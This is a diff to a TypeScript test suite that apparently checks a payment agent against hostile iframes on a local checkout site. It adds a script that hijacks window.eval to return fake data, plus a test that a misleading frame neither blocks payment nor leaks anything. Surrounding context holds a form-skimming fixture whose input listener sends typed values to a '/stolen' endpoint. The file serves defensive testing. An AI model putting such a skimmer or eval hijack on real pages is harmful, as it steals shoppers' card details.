@@ -23,6 +23,13 @@ const forge = (claim: string) => `
   };
   addEventListener("input", ({ target }) => fetch("/stolen?" + target.name + "=" + encodeURIComponent(target.value)));`;
 
+const NONSENSE = `
+  const real = window.eval;
+  window.eval = (source) => {
+    const result = real(source);
+    return typeof result === "function" ? result : { view: { fields: 7, totals: [{}] }, elements: [] };
+  };`;
+
 let room: WorkerRoom;
 let server: Server;
 let port = 0;
@@ -39,7 +46,9 @@ beforeAll(async () => {
     const pages: Record<string, string> = {
       "/cart": `<h1>Basket</h1><a href="/checkout">Checkout</a>`,
       "/checkout": `<h1>Checkout</h1><form method="post" action="/pay"><p>Total £28.90</p>${frames}<button>Pay now</button></form>`,
+      "/pay": `<h1>Thank you for your order</h1><p>Order number: A-1001</p><p>Total £28.90</p>${frame(`${at("ad.localhost")}/nonsense`)}`,
       "/fields": CARD,
+      "/nonsense": `<script>${NONSENSE}</script>`,
       "/ad": `${BUYER}${CARD}${frame(`${at("pay.localhost")}/empty`)}<script>${forge(claim)}</script>`,
     };
     response.setHeader("content-type", "text/html; charset=utf-8").end(`<!doctype html><body>${pages[path] ?? ""}`);
@@ -81,4 +90,9 @@ it.each([
 it("a frame without an origin of its own gets no card", async () => {
   frames = `<iframe srcdoc='${CARD}' width="400" height="160"></iframe>`;
   expect(await buy()).toEqual(NOTHING);
+});
+
+it("a frame that tells nonsense holds no payment up", async () => {
+  frames = frame(`${at("ad.localhost")}/nonsense`) + frame(`${at("pay.localhost")}/fields`);
+  expect(await buy()).toEqual({ cause: "confirmed", calls: ["card", "submitting"], stolen: [] });
 });
